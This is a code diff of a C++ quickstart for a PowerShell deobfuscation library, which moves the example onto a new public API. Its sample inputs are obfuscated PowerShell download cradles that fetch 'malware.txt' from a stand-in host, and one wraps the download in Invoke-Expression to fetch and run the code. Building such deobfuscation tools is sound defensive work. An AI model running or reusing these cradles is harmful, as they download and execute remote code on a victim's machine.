@@ -2,23 +2,29 @@
 //
 //   $ ./quickstart ["<script>"]
 //
-// Without an argument it runs the paper's Listing 2/3/4 examples.
+// Without an argument it runs the paper's Listing 2/3 examples plus a
+// special-character-encoded sample.
+//
+// This example compiles against include/ideobf/ ONLY (the build enforces it
+// via the api_surface_check target): everything a consumer needs — Engine,
+// Request, Response, Options — comes from the stable facade.
 
 #include <cstdio>
 #include <string>
 
-#include "core/deobfuscator.h"
-#include "obfuscator/obfuscator.h"
+#include "ideobf/api.h"
 
 namespace {
 
-void show(const ideobf::InvokeDeobfuscator& deobf, const std::string& title,
+void show(const ideobf::Engine& engine, const std::string& title,
           const std::string& script) {
-  ideobf::DeobfuscationReport report;
-  const std::string out = deobf.deobfuscate(script, report);
+  ideobf::Request request;
+  request.source = script;
+  const ideobf::Response response = engine.handle(request);
+  const ideobf::DeobfuscationReport& report = response.report;
   std::printf("--- %s ---\n", title.c_str());
   std::printf("input:\n%s\n", script.c_str());
-  std::printf("output:\n%s\n", out.c_str());
+  std::printf("output:\n%s\n", response.result.c_str());
   std::printf(
       "(ticks removed: %d, aliases expanded: %d, case normalized: %d,\n"
       " pieces recovered: %d, variables traced: %d, layers unwrapped: %d)\n\n",
@@ -30,27 +36,26 @@ void show(const ideobf::InvokeDeobfuscator& deobf, const std::string& title,
 }  // namespace
 
 int main(int argc, char** argv) {
-  ideobf::InvokeDeobfuscator deobf;
+  ideobf::Engine engine;
 
   if (argc > 1) {
-    show(deobf, "command line input", argv[1]);
+    show(engine, "command line input", argv[1]);
     return 0;
   }
 
-  show(deobf, "Listing 2 (L1: ticking + random case)",
+  show(engine, "Listing 2 (L1: ticking + random case)",
        "(nE`w-oBjE`Ct nET.wE`bcLiEnT).DoWNlOaDsTrInG('https://test.com/"
        "malware.txt')");
 
-  show(deobf, "Listing 3 (L2: string reordering + replace)",
+  show(engine, "Listing 3 (L2: string reordering + replace)",
        "Invoke-Expression ((\"{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}{5}{15}"
        "{3}{2}{11}{4}\" -f 'e','Uht','om/malwar','t.c','.txtjYU)','://','et',"
        "'nloadst','ct N','tps','(jY','e','.WebCl','(New-Obj','ring','tes',"
        "'ient).dow').RepLACe('jYU',[STRiNg][CHar]39))");
 
-  ideobf::Obfuscator obf(4);
-  show(deobf, "Listing 4 style (L3: special-character encoding + bxor)",
-       obf.apply(ideobf::Technique::SpecialCharEncoding,
-                 "Write-Host 'hello from listing 4'"));
+  show(engine, "Listing 4 style (L3: string piecing through variables)",
+       "$p1 = 'Write'; $p2 = '-Host'; $msg = 'hello from listing 4';\n"
+       "& ($p1 + $p2) $msg");
 
   return 0;
 }
